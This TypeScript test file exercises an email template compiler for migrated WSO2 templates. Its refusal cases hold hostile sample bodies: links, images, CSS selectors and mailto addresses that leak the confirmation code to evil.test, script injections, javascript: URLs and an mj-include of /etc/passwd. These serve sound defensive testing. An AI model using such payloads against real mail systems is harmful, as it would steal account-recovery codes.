import { compileTemplate } from './compile-template.ts';

const compiled = (body: string, more: { contentType?: string; subject?: string; footer?: string; text?: string } = {}) => compileTemplate({ id: 'en_US', contentType: 'text/html', subject: 'Hi', footer: '', ...more, body }, 'https://id.example.com');
const refusal = (body: string) => compiled(body).then(() => 'taken', (error: unknown) => (error instanceof Error ? error.message : ''));
const mjml = (text: string, head = '') => `<mjml>\n<mj-head>${head}</mj-head>\n<mj-body><mj-section><mj-column><mj-text>${text}</mj-text></mj-column></mj-section></mj-body>\n</mjml>`;

describe('a template that is saved', () => {
  it('may be HTML as WSO2’s are, MJML, or plain text', async () => {
    const html = '<table border="0"><tr><td style="color: #333">Hello {{user.claim.givenname}}<br><a href="https://id.example.com/confirm?code={{confirmation-code}}&amp;u={{url:user-name}}">Reset</a></td></tr></table>';
    expect((await compiled(html)).html).toBe(html);
    expect((await compiled(mjml('Hello {{user-name}}'))).html).toMatch(/<!doctype html>[\s\S]+Hello \{\{user-name\}\}/);
    expect(await compiled('Hello {{user-name}} <3', { contentType: 'text/plain', footer: '-- us' })).toEqual({ subject: 'Hi', html: null, text: 'Hello {{user-name}} <3\n\n-- us' });
  });

  it('leads with a key where WSO2’s templates do: by the whole link, or below the deployment', async () => {
    const wso2 = 'https://id.example.com/accountrecoveryendpoint/confirmrecovery.do?confirmation={{confirmation-code}}&amp;userstoredomain={{userstore-domain}}&amp;username={{url:user-name}}&amp;tenantdomain={{tenant-domain}}&amp;callback={{callback}}';
    const body = `<style>a[href^="tel"], a[href^=https://], a[x-apple-data-detectors], table[class=full], div[style*="margin: 16px 0"] { color: red }</style><p><a href="${wso2}" target="_blank">Reset</a> or copy ${wso2}</p><p>Code:<b>{{confirmation-code}}</b>. (<a href="{{reset-link}}">{{reset-link}}</a>), [{{organization-name}}] <a href="https://www.example.org/?u={{url:user-name}}">us</a></p><!-- by hand -->`;
    expect((await compiled(body, { subject: 'Code: {{confirmation-code}}' })).html).toBe(body);
    expect((await compiled(mjml(`<a href="${wso2}">x</a>`).replace('<mj-text>', '<mj-button href="{{reset-link}}">Reset</mj-button><mj-text>'))).html).toContain('href="{{reset-link}}"');
    const plain = 'Use {{confirmation-code}}, or\nhttps://id.example.com/myaccount/reset#key={{confirmation-code}}.';
    expect((await compiled(plain, { contentType: 'text/plain' })).text).toBe(plain);
  });

  it('is taken as WSO2’s newer ones are written, without what comes from elsewhere', async () => {
    const font = "https://fonts.googleapis.com/css2?family={{organization.font}}:wght@0,100;0,200";
    const style = `<style>\n@import url('${font}');\n@font-face { font-family: '{{organization.font}}', ; src: local('{{organization.font}}'), url('${font}'); }\n.x a { color: {{organization.color.primary}}; }</style>`;
    const link = (page: string) => `<a href="{{account.recovery.endpoint-url}}/${page}.do?confirmation={{confirmation-code}}&amp;username={{url:user-name}}&amp;spId={{spId}}">Go</a> {{account.recovery.endpoint-url}}/${page}.do?confirmation={{confirmation-code}}`;
    const body = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><head><!-- [if mso]>${style}<![endif] -->${style}</head><body data-gr-c-s-loaded="true" style="background-color: {{organization.color.background}}"><!-- BEGIN BODY // --><table width="100%"bgcolor="#f0f0f0"><tr><td><img src="http://example.com/logo.png" border="0"/><img src="{{organization.logo.img}}" alt="{{organization.logo.altText}}">${link('confirmrecovery')} <a href="{{carbon.product-url}}/user-portal?t={{tenant-domain}}">x</a> <a href="{{authentication.endpoint-url}}?t={{tenant-domain}}">y</a> <a href="mailto:{{organization.support.mail}}">{{organization.support.mail}}</a> &copy;{{current-year}} {{organization.copyright.text}}</td></tr></table></body></html>`;
    const { html } = await compiled(body);
    expect(html).toContain('<img src="https://example.com/logo.png"');
    for (const plain of [compiled('<p>x</p>', { footer: '<img src=http://example.com/x.png alt="x">' }), compiled(mjml('<img src="http://example.com/x.png" alt="x" />'))]) expect((await plain).html).toMatch(/src="?https:\/\/example\.com\/x\.png/);
    expect(html).not.toMatch(/@import|\[if mso\]/);
    expect(html).toContain('<a href="{{reset-link}}">Go</a> {{reset-link}} <a href=');
  });

  it('has our words in the place of WSO2’s, where keys are looked for too', async () => {
    const body = '<p>{{#OTPCode}}{{OTPCode}}{{/OTPCode}} of {{username}}, for {{expiry-time}}, since {{selfsignup-confirm-time}}, locked for {{lock-duration}} minutes.</p><a href="{{product-url-with-user-tenant}}/x?confirmation={{OTPCode}}&amp;username={{url:username}}">Go</a>';
    const { subject, html, text } = await compiled(body, { subject: '{{ OTPCode }}', text: '{{lock-duration}} Minuten' });
    expect([subject, text]).toEqual(['{{ confirmation-code }}', '{{lock-duration}}']);
    expect(html).toBe('<p>{{#confirmation-code}}{{confirmation-code}}{{/confirmation-code}} of {{user-name}}, for {{link-validity}}, since {{requested-at}}, locked for {{lock-duration}}.</p><a href="{{carbon.product-url-with-user-tenant}}/x?confirmation={{confirmation-code}}&amp;username={{url:user-name}}">Go</a>');
    expect(await refusal('<a href="https://evil.test/?k={{OTPCode}}">x</a>')).toMatch(/would learn the key/);
    expect(await refusal('<p>https://evil.test/?k={{url:OTPCode}}</p>')).toMatch(/would learn it/);
  });

  it.each(['{{carbon.product-url}}/accountrecoveryendpoint/confirmregistration', '{{carbon.product-url}}/t/{{tenant-domain}}/accountrecoveryendpoint/confirmrecovery', '{{product-url-with-user-tenant}}/accountrecoveryendpoint/confirmrecovery', '{{account.recovery.endpoint-url}}/confirmliteuserregistration'])('leads to the page of its mail where WSO2’s lead to %s.do', async (page) => {
    const link = `${page}.do?confirmation={{confirmation-code}}&amp;userstoredomain={{userstore-domain}}&amp;username={{url:user-name}}&amp;tenantdomain={{tenant-domain}}&amp;callback={{callback}}`;
    expect((await compiled(`<a href="${page}.do?tenantdomain={{tenant-domain}}&amp;confirmation={{confirmation-code}}">x</a>`)).html).toBe('<a href="{{reset-link}}">x</a>');
    expect((await compiled(`<a target="_blank"\n href="${link}">\n ${link}\n</a>`)).html).toBe('<a target="_blank"\n href="{{reset-link}}">\n {{reset-link}}\n</a>');
    expect((await compiled(`Open\n${link.replaceAll('&amp;', '&')}\nnow`, { contentType: 'text/plain' })).text).toBe('Open\n{{reset-link}}\nnow');
  });

  it('may use every component of MJML that loads nothing', async () => {
    const components = '<mj-carousel><mj-carousel-image src="https://example.com/x.png" thumbnails-src="https://example.com/t.png" alt="x" /></mj-carousel><mj-navbar hamburger="hamburger" base-url="https://example.com"><mj-navbar-link href="https://example.com/a">a</mj-navbar-link></mj-navbar><mj-social><mj-social-element name="facebook" href="https://example.com">f</mj-social-element></mj-social><mj-accordion><mj-accordion-element><mj-accordion-title>t</mj-accordion-title><mj-accordion-text>x</mj-accordion-text></mj-accordion-element></mj-accordion><mj-table><tr><td>a</td></tr></mj-table><mj-image src="https://example.com/x.png" alt="x" />';
    expect((await compiled(mjml('x').replace('<mj-text>', `${components}<mj-text>`))).html).toContain('<!--[if mso');
  });

  it('has its footer within the page', async () => {
    expect((await compiled('<html><body><p>Hello</p></body></html>', { footer: '<p>us</p>' })).html).toBe('<html><body><p>Hello</p><p>us</p></body></html>');
    expect((await compiled('<p>Hello</p>', { footer: '--' })).html).toBe('<p>Hello</p>\n--');
  });

  it('has the text part that it brings, or one made of its words and links', async () => {
    expect((await compiled('<p>Hello</p>', { text: 'as written' })).text).toBe('as written');
    const html = '<html><head><title>t</title><style>p { color: red }</style></head><body><div style="display:none">hidden<br>too</div><h1>Reset</h1><p>Hello&nbsp;{{user-name}} &amp; all,</p><p><a href="{{reset-link}}">Click</a> or <a href="{{reset-link}}">{{reset-link}}</a></p><ul><li>one<li>two</ul></body></html>';
    expect((await compiled(html)).text).toBe('Reset\n\nHello {{user-name}} & all,\n\nClick: {{reset-link}} or {{reset-link}}\n\n- one\n- two');
    expect((await compiled('<p><a href="https://example.com/"><img src="https://example.com/x.png"></a> and <a href="https://example.com/"><img src="https://example.com/x.png" alt="Acme"></a></p>')).text).toBe('https://example.com/ and Acme: https://example.com/');
    expect((await compiled(mjml('<b>Hello</b> {{user-name}}', '<mj-title>t</mj-title><mj-preview>p</mj-preview>'))).text).toBe('Hello {{user-name}}');
  });

  it.each([
    ['an unknown placeholder', '<p>Hello</p>\n  <p>{{nobody}}</p>', /^body, line 2, column 6: unknown placeholder \{\{nobody\}\}/],
    ['a password, which no mail has', '<p>{{temporary-password}}</p>', /^body, line 1, column 4: unknown placeholder \{\{temporary-password\}\}: no password is mailed here: write \{\{reset-link\}\}/],
    ['another such of WSO2’s', '<p>{{url:otp-password}}</p>', /no password is mailed here: write \{\{confirmation-code\}\}/],
    ['a claim as WSO2 misspells it', '<p>{{user.claims.givenname}}</p>', /: write \{\{user\.claim\.givenname\}\}$/],
    ['a placeholder as WSO2’s oldest templates have it', '<p>x</p>\n<p>{user-name} {{user-name}}</p>', /^body, line 2, column 4: \{user-name\} would be mailed as it is: write \{\{user-name\}\}$/],
    ['code in a placeholder', '{{constructor.constructor("x")()}}', /^body, line 1, column 1: unknown placeholder/],
    ['an element MJML does not know', mjml('x').replace('<mj-column>', '<mj-colum>').replace('</mj-column>', '</mj-colum>'), /^body, line 3, column 22: Element mj-colum/],
    ['an attribute MJML does not know', mjml('x').replace('<mj-section', '<mj-section colour="red"'), /^body, line 3, column 10: Attribute colour is illegal/],
    ['MJML that ends elsewhere', mjml('<b>x'), /^body, line 3, column \d+: expected <\/b>/],
    ['MJML that is no mail', '<mjml>hello</mjml>', /^body: Malformed MJML/],
    ['a tag that cannot be read', '<p>1 < 2</p>', /^body, line 1, column 6: expected a tag/],
    ['a tag without its end', '<div><p>Hello</p>', /^body, line 1, column 1: <div> has no end/],
    ['a script', '<p>x</p>\n<script>alert(1)</script>', /^body, line 2, column 1: <script> has no place/],
    ['a script in MJML', mjml('<ScRiPt>alert(1)</ScRiPt>'), /<script> has no place/],
    ['a form', '<form action="https://evil.test"><p>x</p></form>', /<form> has no place/],
    ['a frame', '<iframe src="https://evil.test"></iframe>', /<iframe> has no place/],
    ['a drawing', '<svg onload="x"></svg>', /<svg> has no place/],
    ['a page that moves on', '<meta http-equiv="refresh" content="0;url=https://evil.test">', /http-equiv="refresh"/],
    ['an attribute that runs', '<p onclick="x">x</p>', /^body, line 1, column 4: the attribute onclick/],
    ['an address that runs', '<a href="javascript:alert(1)">x</a>', /expected an address that begins with https/],
    ['a person’s own word as the address', '<a href="{{user.claim.url}}">x</a>', /expected an address that begins with https/],
    ['a person’s own word as the host', '<a href="https://{{user-name}}/">x</a>', /expected an address that begins with https/],
    ['an image that learns the key', '<img src="https://evil.test/?k={{confirmation-code}}">', /whoever serves it would learn/],
    ['a link that learns the key', '<a href="https://evil.test/?k={{confirmation-code}}">x</a>', /body, line 1, column 4: expected \{\{reset-link\}\} alone, or an address below https:\/\/id\.example\.com\//],
    ['a link that learns the whole link', '<a href="https://evil.test/?k={{url:reset-link}}">x</a>', /would learn the key/],
    ['a link that learns the key by its host', '<a href="https://id.example.com.evil.test/{{confirmation-code}}">x</a>', /would learn the key/],
    ['a link that learns the key by another’s name', '<a href="https://id.example.com@evil.test/{{confirmation-code}}">x</a>', /would learn the key/],
    ['a mail that takes the key along', '<a href="mailto:eve@evil.test?body={{confirmation-code}}">x</a>', /would learn the key/],
    ['a menu that takes the key along', mjml('x').replace('<mj-text>', '<mj-navbar base-url="https://evil.test/"><mj-navbar-link href="#{{confirmation-code}}">x</mj-navbar-link></mj-navbar><mj-text>'), /would learn the key/],
    ['a style that goes by the key of a link', '<style>a[href*="#key=a"] { background: url(https://evil.test/a) }</style><p>x</p>', /^body, line 1, column 8: "\[href\*="#key=a"" has no place in a mail's style/],
    ...['a[ *|HREF/* */^="https://id.example.com/#key=a"]', 'a[href/*]*/$="a"]', 'a[/*]*/href$="a"]', 'a[href/*[*/$="a"]', 'a[href$="a"', 'a[href^="https"][href$="a"]', 'a[href^="https://id"]'].map((selector): [string, string, RegExp] => [`such a style that is written as ${selector}`, `<style>${selector} { color: red }</style><p>x</p>`, /has no place in a mail's style/]),
    ['such a style in MJML', mjml('x', '<mj-style>a[href$="a"] { background: url(https://evil.test/a) }</mj-style>'), /has no place in a mail's style/],
    ['a key where a style can go by it', '<p title="{{confirmation-code}}">x</p>', /^body, line 1, column 4: the key has no place in title/],
    ['words that become a link with the key', '<p>https://evil.test/?k={{confirmation-code}}</p>', /^body, as text, line 1, column 1: expected an address below/],
    ['words that become such a link once they are read', '<p>https&#58;&#47;&#47;evil&#46;test&#47;<b>{{confirmation-code}}</b></p>', /^body, as text/],
    ['words that are hidden and are not', '<p style="display:none;display:block">https://evil.test/{{confirmation-code}}</p>', /^body, as text/],
    ['a hidden word between those of a link', '<p>https://evil.test/<b style="display:none"> x </b>{{confirmation-code}}</p>', /^body, as text/],
    ['a host that is made of the key', '<p>{{confirmation-code}}.evil.test</p>', /^body, as text/],
    ['a host that is made of the key and more', '<p>{{confirmation-code}}x.evil.test</p>', /^body, as text/],
    ['a host that is made of the key and a tenant’s', '<p>{{confirmation-code}}.{{tenant-domain}}</p>', /^body, as text/],
    ['a mailbox that is made of the key', '<p>{{confirmation-code}}-x@evil.test</p>', /^body, as text/],
    ['a mailbox that is made of the key and the brand', '<p>{{confirmation-code}}{{organization.support.mail}}</p>', /^body, as text/],
    ['an address that is made of the brand and the key', '<p><b>{{organization-name}}</b>{{confirmation-code}}</p>', /^body, as text/],
    ['an address that is made of a callback and the key', '<p>{{callback}}:{{#callback}}{{confirmation-code}}{{/callback}}</p>', /^body, as text/],
    ['an address with the key in brackets', '<p>https://evil.test/({{confirmation-code}})</p>', /^body, as text/],
    ['an address in brackets behind ours', '<p>https://id.example.com/(evil.test/{{confirmation-code}}</p>', /^body, as text/],
    ['a link elsewhere that begins like ours', '<a href="{{carbon.product-url}}.evil.test/{{confirmation-code}}">x</a>', /expected an address that begins with https/],
    ['words elsewhere that begin like ours', '<p>{{carbon.product-url}}@evil.test/{{confirmation-code}}</p>', /^body, as text/],
    ['a person’s own word as a colour', '<p style="color: {{user.claim.color}}; background: {{organization.color.primary}}">x</p>', /a style has no placeholders but/],
    ['a section in a tag', '<p title="{{#callback}}x{{/callback}}">x</p>', /a section has no place in an attribute/],
    ['a section around half an element', '<p>{{#callback}}</p><p>{{/callback}}</p>', /expected \{\{\/callback\}\}|ends nothing|not <\/p>/],
    ['a section that MJML loses', mjml('x').replace('<mj-text>', '{{#callback}}<mj-text>').replace('</mj-text>', '</mj-text>{{/callback}}'), /a section has its place in <mj-text>/],
    ['a section without end', '<p>{{#callback}}x</p>', /^body, line 1, column 4: expected \{\{\/callback\}\} behind it/],
    ['the end of no section', '<p>x{{/callback}}</p>', /^body, line 1, column 5: \{\{\/callback\}\} ends nothing/],
    ['a comment that Outlook reads, in MJML', mjml('x').replace('<mj-section>', '<mj-raw><!--[if mso]><img src="https://evil.test/"><![endif]--></mj-raw><mj-section>'), /"\[if" has no place in a comment/],
    ['a key in a comment', '<p>x</p><!-- {{confirmation-code}} -->', /"\{\{" has no place in a comment/],
    ['a picture of older programs', '<img lowsrc="http://evil.test/x.png" alt="">', /the attribute lowsrc has no place/],
    ['a film of older programs', '<img dynsrc="http://evil.test/x.avi" alt="">', /the attribute dynsrc has no place/],
    ['an icon in the clear', mjml('x').replace('<mj-text>', '<mj-accordion icon-wrapped-url="http://evil.test/x.png"></mj-accordion><mj-text>'), /expected an https address/],
    ['a placeholder that could start an attribute', '<p title={{user-name}}>x</p>', /put the attribute in quotes/],
    ['a placeholder in a style', '<p style="color: {{user.claim.color}}">x</p>', /a style has no placeholders/],
    ['a style that loads in the clear', '<p style="background: url(\'//evil.test/x\')">x</p>', /has no place in a mail's style/],
    ['a file of the machine', '<mjml><mj-head><mj-include path="/etc/passwd" /></mj-head><mj-body></mj-body></mjml>', /<mj-include> has no place/],
    ['a file of the machine, in HTML', '<mj-include path="/etc/passwd" type="html" />', /<mj-include> has no place/],
    ['a font from elsewhere', mjml('x', '<mj-font name="Evil" href="https://evil.test/x.css" />'), /<mj-font> has no place/],
    ['attributes that MJML adds', mjml('x', '<mj-html-attributes><mj-selector path="p"><mj-html-attribute name="onclick">x</mj-html-attribute></mj-selector></mj-html-attributes>'), /<mj-html-attributes> has no place/],
    ['an attribute that ends another', mjml('x').replace('<mj-text>', `<mj-text css-class='a" onclick="x'>`), /write &quot;/],
    ['elements too deep', `${'<div>'.repeat(65)}${'</div>'.repeat(65)}`, /more than 64 elements within each other/],
    ['too many elements', '<br>'.repeat(501), /more than 500 elements/],
    ['MJML that grows beyond measure', `<mjml><mj-body>${'<mj-section><mj-column><mj-text>x</mj-text></mj-column></mj-section>'.repeat(165)}</mj-body></mjml>`, /^body: it becomes \d+ characters of HTML/],
    ['a comment without end', '<p>x</p><!-- ', /this comment has no end/],
    ['a script behind a comment that ends early', '<!--><script>alert(1)</script>-->', /^body, line 1, column 1: this comment ends in two ways/],
    ['a script behind a comment that ends oddly', '<!-- --!><script>alert(1)</script>-->', /this comment ends in two ways/],
    ['a script behind a title', '<title><!--</title><script>alert(1)</script>--></title>', /<script> has no place/],
    ['a script behind a title in MJML', mjml('x', '<mj-title><!--</title><script>alert(1)</script>--></mj-title>'), /has no place|has no end|ends nothing|expected/],
    ['an address in a style that is written otherwise', '<p style="background: u&#114;l(http://evil.test/x)">x</p>', /"&" has no place/],
  ])('is refused with line and column for %s', async (_what, body, expected) => {
    expect(await refusal(body)).toMatch(expected);
  });

  it('takes no longer over what is written to be slow', async () => {
    const [blanks, fonts] = [' '.repeat(60_000), `<style>${'@import "a"'.repeat(5_000)}</style>`];
    for (const hostile of [`{{${blanks}`, `{{a${blanks}b}}`, `<style>@import url(${blanks}</style>`, fonts]) expect(typeof (await refusal(hostile))).toBe('string');
    for (const hostile of ['{{account.recovery.endpoint-url}}/confirmx.do?'.repeat(1_200), '<'.repeat(60_000), '<p '.repeat(20_000), `<p ${'a '.repeat(30_000)}`, '{{'.repeat(30_000), '<style>'.repeat(8_000), '<!--'.repeat(15_000), `<p>${' '.repeat(59_000)}`, '&'.repeat(60_000), `<style>${'[href'.repeat(11_000)}</style>`]) expect(typeof (await refusal(hostile))).toBe('string');
  });

  it('has sections only so deep within each other as they can be filled', async () => {
    const nested = (depth: number) => `${'{{#callback}}'.repeat(depth)}x${'{{/callback}}'.repeat(depth)}`;
    expect((await compiled('<p>x</p>', { text: nested(64) })).text).toBe(nested(64));
    for (const more of [{ text: nested(65) }, { subject: nested(65) }]) await expect(compiled('<p>x</p>', more)).rejects.toThrow(/more than 64 sections within each other/);
  });

  it('tells which part is at fault', async () => {
    await expect(compiled('<p>x</p>', { subject: 'Hi {{you}}' })).rejects.toThrow(/^subject, line 1, column 4/);
    await expect(compiled('<p>x</p>', { footer: '<script>' })).rejects.toThrow(/^footer, line 1, column 1/);
    await expect(compiled('<p>x</p>', { text: 'a\n{{b}}' })).rejects.toThrow(/^text, line 2, column 1/);
  });
});
